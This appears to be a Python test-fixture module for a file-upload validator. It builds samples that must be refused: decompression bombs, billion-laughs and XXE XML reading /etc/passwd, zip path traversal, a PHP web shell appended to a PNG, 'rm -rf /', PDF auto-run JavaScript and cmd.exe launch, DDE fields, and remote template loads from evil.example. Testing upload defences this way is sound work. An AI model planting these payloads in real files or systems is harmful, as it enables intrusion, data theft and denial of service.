"""Files that must be refused, each with the reason; `good` has harmless ones that look much the same."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from io import BytesIO

from PIL import Image

from tests.factories.documents import (
    DOCUMENT,
    MAIN_TYPE,
    TYPES,
    docx,
    pdf,
    pdf_of,
    picture,
    relation,
    relationships,
    zipped,
)

Body = Callable[[], bytes]
JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _bomb_docx() -> bytes:
    return docx("small", members={"word/media/zeros.png": b"\0" * 60_000_000})


def _lying_bomb() -> bytes:
    """The directory says that a member is small, and it is not."""
    body = bytearray(docx("x", members={"word/styles.xml": b"\0" * 40_000_000}))
    place = body.rfind(b"PK\x01\x02", 0, body.rfind(b"word/styles.xml"))
    body[place + 24 : place + 28] = struct.pack("<I", 500)
    return bytes(body)


def _many_members() -> bytes:
    return docx("x", members={f"word/{number}.xml": "" for number in range(3_100)})


def _laughing_xml() -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    xml = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">{levels}]><d>&l8;</d>'
    return docx("x", members={"word/document.xml": xml})


def _reading_entity() -> bytes:
    xml = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
    return zipped_document(xml)


def zipped_document(xml: str) -> bytes:
    return docx(members={"word/document.xml": xml})


def _gaping() -> bytes:
    """The directory tells of parts only, and in front of it stands what nobody lists."""
    body = docx("x")
    between, place = b"<html>" + b"x" * 100, body.find(b"PK\x01\x02")
    end = body.rfind(b"PK\x05\x06")
    told = body[end : end + 16] + struct.pack("<I", place + len(between)) + body[end + 20 :]
    return body[:place] + between + body[place:end] + told


def _locked_docx() -> bytes:
    body = bytearray(docx("secret"))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = body.find(mark)
        body[place + offset] |= 1
    return bytes(body)


def _pixel_bomb() -> bytes:
    """A header that promises 30,000 by 30,000 pixels, and a few bytes that inflate to them."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0)
    rows = chunk(b"IDAT", zlib.compress(b"\0" * 1_000_000, 9))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + rows + chunk(b"IEND", b"")


def _gif() -> bytes:
    file = BytesIO()
    Image.new("P", (2, 2)).save(file, "GIF")
    return file.getvalue()


def _deep_pdf() -> bytes:
    return pdf("deep", more=["[" * 3_000 + "]" * 3_000])


def _pdf_bomb() -> bytes:
    """A page whose text inflates to far more than anybody may read."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"BT (a) Tj ET " * 100_000) for _ in range(100)) + packer.flush()
    head = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
    ]
    stream = f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n"
    return pdf_of([*head, stream + packed.decode("latin-1") + "\nendstream"])


BAD: dict[str, tuple[str, Body, str]] = {
    # Not what it says
    "a program called a PDF": ("cv.pdf", lambda: b"MZ\x90\x00" + b"\0" * 400, "wrong_type"),
    "a picture called a text": ("cv.txt", picture, "wrong_type"),
    "a text called a picture": ("photo.png", lambda: b"just words", "wrong_type"),
    "a GIF called a WebP": ("photo.webp", _gif, "wrong_type"),
    "a GIF that is a script": ("notes.txt", lambda: b"GIF89a/*" + b" " * 60 + b"*/=1;alert(1)", "wrong_type"),
    "an old Word file": ("cv.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "wrong_type"),
    "a spreadsheet called a document": (
        "cv.docx",
        lambda: docx("x", main_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        "wrong_type",
    ),
    "any archive called a document": ("cv.docx", lambda: zipped({"readme.txt": "hello"}), "wrong_type"),
    "a page called a text": (
        "notes.txt",
        lambda: b"\xef\xbb\xbf \n<!DOCTYPE html><script>alert(1)</script>",
        "wrong_type",
    ),
    "a drawing called a text": ("notes.md", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>', "wrong_type"),
    "a page of Windows called a table": ("a.csv", lambda: "<html><body>x".encode("utf-16"), "wrong_type"),
    "a shell script called a text": ("steps.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "wrong_type"),
    "binary called a text": ("notes.txt", lambda: bytes(range(256)) * 20, "wrong_type"),
    "a text with control characters": ("notes.md", lambda: b"fine \x07\x08 not fine", "wrong_type"),
    # Empty and broken
    "blank lines alone": ("notes.txt", lambda: b"  \n \n", "empty"),
    "a PDF that was cut": ("cv.pdf", lambda: pdf("hello")[:200], "damaged"),
    "a PDF of nothing": ("cv.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "damaged"),
    "a document that was cut": ("cv.docx", lambda: docx("hello")[:300], "damaged"),
    "a document without its text": (
        "cv.docx",
        lambda: zipped(
            {
                "[Content_Types].xml": TYPES.format(main=MAIN_TYPE),
                "_rels/.rels": relationships(relation("officeDocument", "word/document.xml")),
            }
        ),
        "damaged",
    ),
    "a document of broken XML": ("cv.docx", lambda: zipped_document("<w:document><w:body>"), "damaged"),
    "a picture that was cut": ("photo.jpg", lambda: picture("JPEG", (400, 300))[:300], "damaged"),
    "a picture of a header alone": ("photo.png", lambda: picture("PNG")[:20], "damaged"),
    "a text in no encoding": ("notes.txt", lambda: b"\xff\xfe\x00\xd8\x00\xd8" * 3, "encoding"),
    # Locked
    "a PDF with a password": (
        "cv.pdf",
        lambda: pdf(
            "secret",
            more=[f"<< /Filter /Standard /V 1 /R 2 /P -4 /O <{'00' * 32}> /U <{'00' * 32}> >>"],
            trailer="/Encrypt 6 0 R /ID [<00> <00>]",
        ),
        "encrypted",
    ),
    "a document with locked parts": ("cv.docx", _locked_docx, "encrypted"),
    # Several things at once
    "a PDF with an archive behind it": ("cv.pdf", lambda: pdf("x") + zipped({"a.txt": "b"}), "polyglot"),
    "a PDF with a page behind it": ("cv.pdf", lambda: pdf("x") + b"<html>" + b"x" * 4_000, "polyglot"),
    "a picture with an archive behind it": ("a.png", lambda: picture() + zipped({"a.txt": "b"}), "polyglot"),
    "a photo with an archive behind it": ("a.jpg", lambda: picture("JPEG") + zipped({"a.txt": "b"}), "polyglot"),
    "a picture with a script in its comment": (
        "a.jpg",
        lambda: picture("JPEG", comment=b"<script>alert(1)</script>"),
        "polyglot",
    ),
    "a picture with PHP behind it": ("a.png", lambda: picture() + b"<?php system($_GET[0]); ?>", "polyglot"),
    "a document with a PDF in front": ("cv.docx", lambda: zipped({"%PDF-1.4": "x"}) + b"", "polyglot"),
    "a document with something behind it": ("cv.docx", lambda: docx("x") + b"MZ" + b"\0" * 50, "polyglot"),
    "a document with a comment in its archive": (
        "cv.docx",
        lambda: zipped({"[Content_Types].xml": "x"}, comment=b"<script>"),
        "polyglot",
    ),
    "a document with two beginnings": (
        "cv.docx",
        lambda: docx(
            "x",
            members={
                "_rels/.rels": relationships(
                    relation("officeDocument", "word/document.xml") + relation("officeDocument", "word/other.xml")
                )
            },
        ),
        "polyglot",
    ),
    "a document with something between its parts": ("cv.docx", _gaping, "polyglot"),
    "a document with a part twice": (
        "cv.docx",
        lambda: docx("x", members={"word/Document.xml": "<a/>"}),
        "polyglot",
    ),
    "a text with an archive behind it": ("notes.txt", lambda: b"hello\n" + zipped({"a.txt": "b"}), "polyglot"),
    # Acts by itself
    "a PDF that runs a script": ("cv.pdf", lambda: pdf("x", catalog=f"/OpenAction {JS}"), "active"),
    "a PDF that hides the script's name": (
        "cv.pdf",
        lambda: pdf("x", catalog="/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
        "active",
    ),
    "a PDF with a script of its names": (
        "cv.pdf",
        lambda: pdf("x", catalog=f"/Names << /JavaScript << /Names [(a) {JS}] >> >>"),
        "active",
    ),
    "a PDF that starts a program": (
        "cv.pdf",
        lambda: pdf("x", catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "active",
    ),
    "a PDF that opens an address": (
        "cv.pdf",
        lambda: pdf("x", catalog="/OpenAction << /S /URI /URI (https://evil.example/) >>"),
        "active",
    ),
    "a PDF that sends a form": (
        "cv.pdf",
        lambda: pdf("x", more=["<< /S /SubmitForm /F (https://evil.example/) >>"]),
        "active",
    ),
    "a PDF with a form of XFA": ("cv.pdf", lambda: pdf("x", catalog="/AcroForm << /XFA [] >>"), "active"),
    "a PDF with an action a page": (
        "cv.pdf",
        lambda: pdf("x", catalog="/AA << /WC << /S /URI /URI (https://evil.example/) >> >>"),
        "active",
    ),
    "a document with a DDE field": (
        "cv.docx",
        lambda: docx(body='<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'),
        "active",
    ),
    "a document that includes an address": (
        "cv.docx",
        lambda: docx(body='<w:p><w:fldSimple w:instr="INCLUDETEXT https://evil.example/"/></w:p>'),
        "active",
    ),
    "a document with a DDE field in pieces": (
        "cv.docx",
        lambda: docx(
            body="<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c</w:instrText></w:r></w:p>"
        ),
        "active",
    ),
    "a document with a DDE field in its header": (
        "cv.docx",
        lambda: docx(
            "x",
            members={
                "word/header1.xml": DOCUMENT.format(body="<w:p><w:r><w:instrText>DDE a b</w:instrText></w:r></w:p>")
            },
        ),
        "active",
    ),
    "a PDF with a scene that runs a script": (
        "cv.pdf",
        lambda: pdf("x", more=["<< /Type /3D /Subtype /U3D /OnInstantiate 5 0 R >>"]),
        "active",
    ),
    "a PDF that opens an address in the end": (
        "cv.pdf",
        lambda: pdf(
            "x",
            catalog="/OpenAction << /S /Named /N /NextPage /Next [<< /S /Named /N /NextPage /Next 6 0 R >>] >>",
            more=["<< /S /URI /URI (https://evil.example/) >>"],
        ),
        "active",
    ),
    # Carries others
    "a document with an archive for a picture": (
        "cv.docx",
        lambda: docx("x", members={"word/media/image1.png": zipped({"a": zipped({"b": b"0" * 1_000_000})})}),
        "embedded",
    ),
    "a document with an archive": ("cv.docx", lambda: docx("x", members={"word/media/a.zip": "x"}), "embedded"),
    "a document with an add-in": (
        "cv.docx",
        lambda: docx("x", members={"word/webextensions/taskpanes.xml": "<a/>"}),
        "embedded",
    ),
    "a document whose macros are called something else": (
        "cv.docx",
        lambda: docx("x", relations=relation("vbaProject", "data.xml"), members={"word/data.xml": "<a/>"}),
        "macros",
    ),
    "a document that spells its macros out": (
        "cv.docx",
        lambda: docx("x", main_type="application/vnd.ms-word.document.macro&#69;nabled.main+xml"),
        "macros",
    ),
    "a PDF with a file inside": (
        "cv.pdf",
        lambda: pdf("x", catalog="/Names << /EmbeddedFiles << /Names [] >> >>"),
        "embedded",
    ),
    "a PDF with a file on a page": (
        "cv.pdf",
        lambda: pdf("x", more=["<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"]),
        "embedded",
    ),
    "a document with macros": ("cv.docx", lambda: docx("x", members={"word/vbaProject.bin": b"x"}), "macros"),
    "a document that says it has macros": (
        "cv.docx",
        lambda: docx("x", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "a document with an object": (
        "cv.docx",
        lambda: docx("x", members={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "embedded",
    ),
    "a document with a control": (
        "cv.docx",
        lambda: docx("x", members={"word/activeX/activeX1.xml": "<a/>"}),
        "embedded",
    ),
    "a document with a page inside": ("cv.docx", lambda: docx("x", members={"word/chunk.html": "<a/>"}), "embedded"),
    "a document with a chunk": (
        "cv.docx",
        lambda: docx("x", relations=relation("aFChunk", "chunk.xml")),
        "embedded",
    ),
    # Loads from elsewhere
    "a document with a template elsewhere": (
        "cv.docx",
        lambda: docx("x", relations=relation("attachedTemplate", "https://evil.example/t.dotm", external=True)),
        "external",
    ),
    "a document with a picture elsewhere": (
        "cv.docx",
        lambda: docx("x", relations=relation("image", "https://evil.example/pixel.png", external=True)),
        "external",
    ),
    "a document whose settings load": (
        "cv.docx",
        lambda: docx(
            "x",
            members={
                "word/_rels/settings.xml.rels": relationships(
                    relation("attachedTemplate", "file://evil.example/share/t.dotm", external=True)
                )
            },
        ),
        "external",
    ),
    "a document whose relations shout": (
        "cv.docx",
        lambda: docx(
            "x",
            members={
                "word/_rels/settings.xml.RELS": relationships(
                    relation("attachedTemplate", "https://evil.example/t.dotm", external=True)
                )
            },
        ),
        "external",
    ),
    "a document that does not say that it loads": (
        "cv.docx",
        lambda: docx("x", relations=relation("attachedTemplate", "file://evil.example/share/t.dotm")),
        "external",
    ),
    "a document that is put together of others": (
        "cv.docx",
        lambda: docx("x", relations=relation("subDocument", "https://evil.example/part.docx", external=True)),
        "embedded",
    ),
    # Leads out
    "a document with a path that climbs": (
        "cv.docx",
        lambda: docx("x", members={"../../etc/cron.d/x": "y"}),
        "path_names",
    ),
    "a document with an absolute path": ("cv.docx", lambda: docx("x", members={"/etc/passwd": "y"}), "path_names"),
    "a document with a path of Windows": (
        "cv.docx",
        lambda: docx("x", members={"word\\..\\..\\x.xml": "y"}),
        "path_names",
    ),
    # Too much
    "a document that unpacks to too much": ("cv.docx", _bomb_docx, "bomb"),
    "a document that lies about a size": ("cv.docx", _lying_bomb, "damaged"),
    "a PDF whose page unpacks to too much": ("cv.pdf", _pdf_bomb, "bomb"),
    "a PDF of too many levels": ("cv.pdf", _deep_pdf, "too_complex"),
    "a document of too many parts": ("cv.docx", _many_members, "bomb"),
    "a document that laughs": ("cv.docx", _laughing_xml, "bomb"),
    "a document that reads our files": ("cv.docx", _reading_entity, "bomb"),
    "a picture of too many pixels": ("photo.png", _pixel_bomb, "bomb"),
    "a picture that is too wide": ("photo.png", lambda: picture("PNG", (17_000, 2), "L"), "bomb"),
}
